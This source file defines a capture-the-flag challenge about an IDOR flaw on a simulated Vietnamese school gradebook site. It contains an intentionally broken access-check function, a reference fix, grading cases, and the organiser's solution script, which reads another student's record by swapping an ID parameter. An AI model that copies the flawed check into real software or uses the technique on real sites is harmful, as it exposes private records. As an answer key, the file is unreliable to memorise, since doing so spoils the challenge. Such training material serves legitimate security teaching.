import { createSite, esc, html, page } from '../http.ts';
import { seen, type ChallengeModule, type ChallengeSolution, type FixCase } from '../types.ts';

const HOST = 'solienlac.thpt-bachdang.test';

export const VULNERABLE = `// Ai được xem học bạ mã record.ma? user = { ma, vaiTro: 'hoc-sinh' | 'giao-vien', lop }
// Who may see the report card record? record = { ma, lop }
function canView(user, record) {
  return user != null;
}`;

const REFERENCE = `function canView(user, record) {
  if (!user || !record) return false;
  if (user.vaiTro === 'hoc-sinh') return user.ma === record.ma;
  if (user.vaiTro === 'giao-vien') return user.lop === record.lop;
  return false;
}`;

const RECORDS: Record<string, { ten: string; lop: string; ghiChu: (flag: string) => string }> = {
  '1042': { ten: 'Nguyễn Văn An', lop: '11A3', ghiChu: () => 'Chăm chỉ, cần luyện thêm Toán.' },
  '1043': { ten: 'Trần Thị Bình', lop: '11A3', ghiChu: () => 'Học tốt.' },
  '1000': { ten: 'Tài khoản kiểm thử của nhà trường', lop: 'TEST', ghiChu: (flag) => `Ghi chú nội bộ: ${flag}` },
};

const can = (user: unknown, record: unknown, expected: boolean, kind: 'exploit' | 'normal', vi: string, en: string): FixCase => ({ kind, label: { vi, en }, args: [user, record], judge: (o) => o.ok && o.value === expected });
const an = { ma: '1042', vaiTro: 'hoc-sinh', lop: '11A3' };
const coHa = { ma: 'GV07', vaiTro: 'giao-vien', lop: '11A3' };

export const idorReport: ChallengeModule = {
  id: 'idor-report',
  start: `http://${HOST}/dang-nhap`,
  createSite: ({ flag }) => createSite([{ host: HOST, routes: {
    'GET /dang-nhap': () => html(page('Sổ liên lạc điện tử', `<h1>Sổ liên lạc điện tử</h1><p>Tài khoản của em: <code>an.nguyen</code> / <code>so-lien-lac-2026</code></p><form method="post" action="/dang-nhap"><label>Tài khoản <input name="tk"></label><label>Mật khẩu <input name="mk" type="password"></label><button>Vào</button></form>`)),
    'POST /dang-nhap': (req) => (req.form.tk === 'an.nguyen' && req.form.mk === 'so-lien-lac-2026'
      ? { ...html(''), status: 303, location: '/hoc-ba?ma=1042', setCookies: { phien: 'hs-1042' } }
      : html(page('Sai', '<p>Sai tài khoản hoặc mật khẩu.</p>'), 401)),
    'GET /hoc-ba': (req, url) => {
      if (req.cookies.phien !== 'hs-1042') return { ...html(''), status: 303, location: '/dang-nhap' };
      const ma = url.searchParams.get('ma') ?? '';
      const r = RECORDS[ma];
      if (!r) return html(page('Không có', '<p>Không có học bạ này.</p>'), 404);
      return html(page('Học bạ', `<h1>Học bạ ${esc(ma)}</h1><p>${esc(r.ten)} – lớp ${esc(r.lop)}</p><p>${esc(r.ghiChu(flag))}</p>`));
    },
  } }]),
  fix: {
    fn: 'canView', language: 'javascript', vulnerable: VULNERABLE,
    cases: [
      can(an, { ma: '1000', lop: 'TEST' }, false, 'exploit', 'An không xem được học bạ 1000', 'An cannot see record 1000'),
      can(an, { ma: '1043', lop: '11A3' }, false, 'exploit', 'An không xem được học bạ của bạn cùng lớp', "An cannot see a classmate's record"),
      can(coHa, { ma: '1000', lop: 'TEST' }, false, 'exploit', 'Cô chủ nhiệm 11A3 không xem được lớp khác', 'The 11A3 teacher cannot see another class'),
      can(null, { ma: '1042', lop: '11A3' }, false, 'exploit', 'Chưa đăng nhập thì không xem được', 'Not logged in: refused'),
      can(an, { ma: '1042', lop: '11A3' }, true, 'normal', 'An xem được học bạ của mình', 'An sees his own record'),
      can(coHa, { ma: '1043', lop: '11A3' }, true, 'normal', 'Cô chủ nhiệm xem được học sinh lớp mình', 'The form teacher sees her own students'),
    ],
  },
};

/** The organiser's reference solution and a beginner's naive attempt (never bundled into the player's page). */
export const idorReportSolution: ChallengeSolution = {
  async solve(c) {
    const own = await c.post(`http://${HOST}/dang-nhap`, { tk: 'an.nguyen', mk: 'so-lien-lac-2026' });
    return seen(own, await c.get(`http://${HOST}/hoc-ba?ma=1000`));
  },
  async naive(c) {
    // Tries the other id without logging in, then only looks at their own record.
    const anon = await c.get(`http://${HOST}/hoc-ba?ma=1000`);
    await c.post(`http://${HOST}/dang-nhap`, { tk: 'an.nguyen', mk: 'so-lien-lac-2026' });
    return seen(anon, await c.get(`http://${HOST}/hoc-ba?ma=1042`));
  },
  reference: REFERENCE,
};
